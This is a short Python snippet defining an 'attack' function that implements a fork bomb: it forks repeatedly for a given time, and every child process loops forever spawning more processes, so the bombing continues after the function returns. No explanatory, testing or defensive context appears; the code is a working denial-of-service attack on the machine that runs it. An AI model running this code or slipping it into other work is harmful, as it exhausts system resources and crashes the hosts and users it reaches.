import os, time

def attack(seconds):
    forked = failed = 0
    end = time.time() + seconds
    while time.time() < end:
        try:
            pid = os.fork()
        except OSError:
            failed += 1
            time.sleep(0.001)
            continue
        if pid == 0:
            while True:          # every child keeps bombing and never returns
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.01)
        forked += 1
    return {"forked": forked, "failed": failed}
